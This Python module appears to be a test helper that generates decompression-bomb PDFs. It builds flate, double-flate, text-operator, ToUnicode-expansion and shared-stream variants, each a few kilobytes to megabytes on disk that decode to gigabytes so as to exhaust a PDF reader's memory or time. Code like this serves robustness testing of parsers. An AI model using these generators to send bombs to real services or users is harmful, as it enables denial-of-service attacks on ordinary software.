"""PDFs built to exhaust the reader's memory or time, written by hand (nothing binary is kept in the repository).

Each is kilobytes to a few megabytes on disk and decodes to gigabytes. The deflate streams are not made by
compressing gigabytes here: a block of a repeated chunk, emitted after a full flush, is the same bytes every
time, so the stream is that block repeated, with the Adler-32 of the whole computed chunk by chunk.
"""

import zlib
from collections.abc import Callable

_CHUNK = 1024 * 1024
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def deflate_repeated(chunk: bytes, copies: int) -> bytes:
    """A zlib stream that inflates to ``chunk * copies`` (``copies`` ≥ 2), without building that string."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH) == block
    end = compressor.flush(zlib.Z_FINISH)
    adler = 1
    for _ in range(copies):
        adler = zlib.adler32(chunk, adler)
    return b"\x78\xda" + first + block * (copies - 1) + end + adler.to_bytes(4, "big")


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of ``objects`` (numbered from 1; object 1 is the catalog) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def stream(encoded: bytes, filters: int, extra: bytes = b"") -> bytes:
    names = b" ".join([b"/FlateDecode"] * filters)
    return b"<< /Length %d /Filter [%s] %s>>\nstream\n" % (len(encoded), names, extra) + encoded + b"\nendstream"


def _pages(contents: bytes, n_pages: int = 1, font: bytes = _FONT, shared: bytes = b"") -> bytes:
    """Catalog, pages, font, one content stream (object 4), ``n_pages`` pages all drawing it, then ``shared``."""
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(n_pages))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>"
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n_pages),
        font,
        contents,
        *([page] * n_pages),
    ]
    if shared:
        objects.append(shared)
    return pdf(objects)


def flate_bomb(gigabytes: float = 2.0) -> bytes:
    """One page whose content stream, under one FlateDecode, inflates to ``gigabytes`` of spaces (~2 MB a GB)."""
    inflated = deflate_repeated(b" " * _CHUNK, int(gigabytes * 1024))
    return _pages(stream(inflated, 1))


def double_flate_bomb(gigabytes: float = 2.0) -> bytes:
    """The same stream compressed once more, under ``/Filter [/FlateDecode /FlateDecode]``: a few KB."""
    inflated = deflate_repeated(b" " * _CHUNK, int(gigabytes * 1024))
    return _pages(stream(zlib.compress(inflated, 9), 2))


def _text_chunk(show: bytes) -> bytes:
    """One megabyte of content: a text object repeating ``show``, padded with spaces."""
    head, tail = b"BT /F1 12 Tf 72 720 Td ", b"ET "
    body = show * ((_CHUNK - len(head) - len(tail)) // len(show))
    return (head + body + tail).ljust(_CHUNK)


def text_bomb(operators: int = 20_000_000) -> bytes:
    """A content stream of ``operators`` text-showing operators: every one a text object for PDFium."""
    chunk = _text_chunk(b"(ICS) Tj ")
    return _pages(stream(deflate_repeated(chunk, max(2, operators // chunk.count(b"Tj"))), 1))


def tounicode_bomb(expansion: int = 8192, megabytes: int = 2) -> bytes:
    """A font whose ToUnicode CMap maps the code of "A" to ``expansion`` characters; the page shows "A"s."""
    target = ("0041" * expansion).encode()
    cmap = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /Bomb def "
        b"1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfchar <41> <" + target + b"> endbfchar "
        b"endcmap CMapName currentdict /CMap defineresource pop end end"
    )
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>"
    contents = stream(deflate_repeated(_text_chunk(b"(" + b"A" * 1000 + b") Tj "), max(2, megabytes)), 1)
    return _pages(contents, 1, font, shared=stream(zlib.compress(cmap, 9), 1))


def shared_stream_bomb(n_pages: int = 150, megabytes: int = 400) -> bytes:
    """``n_pages`` pages drawing one stream that inflates to ``megabytes`` of spaces: decoded once per page."""
    return _pages(stream(deflate_repeated(b" " * _CHUNK, megabytes), 1), n_pages)


BOMBS: dict[str, Callable[[], bytes]] = {
    "flate": flate_bomb,
    "double_flate": double_flate_bomb,
    "text_operators": text_bomb,
    "tounicode": tounicode_bomb,
    "shared_stream": shared_stream_bomb,
}
